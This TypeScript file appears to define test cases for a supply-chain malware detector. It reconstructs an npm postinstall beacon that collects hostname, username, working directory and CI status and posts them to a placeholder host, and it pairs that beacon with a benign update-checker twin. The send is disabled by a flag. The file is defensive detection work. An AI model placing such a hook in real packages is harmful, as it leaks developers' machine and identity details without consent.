import type { ReconstructedCase } from '../case.ts';
import { notesServer } from '../bases/notes-server.ts';
import { source } from '../source.ts';
import { type Draft, positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'install-beacon',
  campaign: 'npx-canary squats',
  technique: 'a postinstall hook that reports the machine to a host of a function platform',
  follows: 'MAL-2026-5476..5485',
};

const HOOKED = { scripts: { build: 'tsc', test: 'node --test', postinstall: 'node postinstall.js' } };

const BEACON = source`
  const https = require('https');
  const os = require('os');

  const RECONSTRUCTED = true;
  const data = JSON.stringify({
    package: process.env.npm_package_name,
    hostname: os.hostname(),
    user: os.userInfo().username,
    cwd: process.cwd(),
    ci: process.env.CI || null,
  });

  if (!RECONSTRUCTED) {
    const request = https.request({
      hostname: 'npx-canary-log.saltfog-workers.invalid',
      path: '/log',
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'Content-Length': data.length },
    });
    request.on('error', () => {});
    request.end(data);
  }
`;

export const installBeacon: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'from-the-first-release',
    note: 'two releases of a minute, both with the hook',
    name: 'mcp-server-almanac',
    brand: 'canary-lab-7',
    base: (identity) => withHook(notesServer(identity)),
    steps: [
      { version: '0.0.1', daysAgo: 19.01 },
      { version: '0.0.2', daysAgo: 19 },
    ],
    asked: '0.0.1',
  }),
  positive(ABOUT, {
    variant: 'in-an-update',
    note: 'the same hook, in a later release',
    name: 'almanac-notes-mcp',
    brand: 'canary-lab-8',
    base: notesServer,
    steps: [
      ...quiet(['0.1.0', '0.1.1']),
      { version: '0.1.2', daysAgo: 9, manifest: HOOKED, files: { 'postinstall.js': BEACON } },
    ],
    signals: ['rug-pull/install-script-added'],
  }),
  twin(ABOUT, {
    variant: 'update-notice',
    note: 'asks its own host once a day, when it starts, whether there is a newer release',
    name: 'almanac-desk-mcp',
    brand: 'almanac-desk',
    base: notesServer,
    steps: [
      ...quiet(['0.1.0', '0.1.1']),
      {
        version: '0.1.2',
        daysAgo: 9,
        files: {
          'dist/update.js': source`
            "use strict";

            exports.newer = async function newer(version) {
                if (process.env.CI || process.env.NO_UPDATE_NOTIFIER) return null;
                const response = await fetch("https://releases.almanac-desk.test/latest.json");
                const latest = await response.json();
                return latest.version === version ? null : latest.version;
            };
          `,
        },
      },
    ],
    signals: ['rug-pull/new-sink'],
  }),
];

function withHook(draft: Draft): Draft {
  return {
    ...draft,
    manifest: { ...draft.manifest, scripts: { postinstall: 'node postinstall.js' } },
    files: { ...draft.files, 'postinstall.js': BEACON },
  };
}
